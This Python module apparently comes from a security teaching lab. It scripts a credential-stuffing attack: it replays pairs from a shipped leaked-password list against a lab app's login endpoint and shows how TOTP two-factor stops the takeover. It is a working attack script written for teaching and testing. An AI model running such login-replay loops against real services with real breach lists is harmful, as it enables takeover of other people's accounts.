"""Credential stuffing: email and password pairs leaked by another site, tried here.

Erin used the same password on a site that was breached; the pairs are
sold as lists. The attacker tries every pair of a (tiny, shipped) list
here: nothing is guessed, so rate limits barely notice. Where Erin's pair
works, the attacker is in, unless her account asks for a second factor
that no breach of another site could have leaked.
"""
from pathlib import Path

import lab
import pyotp

WEAK = "previous"       # step 06: a password is all it takes
MAX_REQUESTS = 16
MAX_SECONDS = 120      # a safety stop, not a timing: each login costs a real scrypt (N=2^17) and a laptop may be busy

LEAKED = Path(__file__).with_name("leaked_pairs.txt")
VICTIM = {"username": "erin", "email": "erin@example.com", "password": "purple monkey dishwasher"}


def attack(target):
    target.verified_user(**VICTIM)
    evidence = [erin_turns_on_two_factor(target)]
    attacker = target.client("stuffer")
    for line in LEAKED.read_text(encoding="utf-8").splitlines():
        if not line or line.startswith("#"):
            continue
        email, password = line.split(":", 1)
        answer = attacker.post("/auth/login", json={"username": email, "password": password})
        if email != VICTIM["email"]:
            evidence.append(f"the leaked pair for {email}: {answer.status}")
            continue
        me = attacker.get("/auth/me")
        evidence += [f"the leaked pair for {email}: {answer.status} {answer.text.strip()}",
                     f"the attacker's GET /auth/me: {me.status}"
                     + (" (Erin's account)" if me.status == 200 else " (no session without her code)")]
        asked_for_code = answer.status == 200 and (answer.json or {}).get("two_factor_required") is True
        if me.status != 200 and not asked_for_code:
            raise lab.Missing(f"Erin's right password answered {answer.status}: not a login, nor a request for a code")
        return lab.Outcome(got_through=me.status == 200, evidence=evidence)
    raise lab.Missing(f"{LEAKED.name} has no pair for {VICTIM['email']}")


def erin_turns_on_two_factor(target):
    """Erin, in her own browser, turns two-factor on if the app offers it; what happened, in words."""
    erin = target.client("erin")
    erin.post("/auth/login", json={"username": VICTIM["username"], "password": VICTIM["password"]})
    setup = erin.post("/auth/2fa/setup", json={"password": VICTIM["password"]})
    if setup.status == 404:
        erin.post("/auth/logout")
        return "Erin looked for two-factor: this app has none (POST /auth/2fa/setup: 404)"
    code = pyotp.TOTP(setup.json["secret"]).now()  # what her authenticator app shows
    confirmed = erin.post("/auth/2fa/confirm", json={"code": code})
    erin.post("/auth/logout")
    if confirmed.status != 200:
        raise lab.Missing(f"Erin could not turn two-factor on: {confirmed.status} {confirmed.text.strip()[:200]}")
    return "Erin turned two-factor on (an authenticator app)"
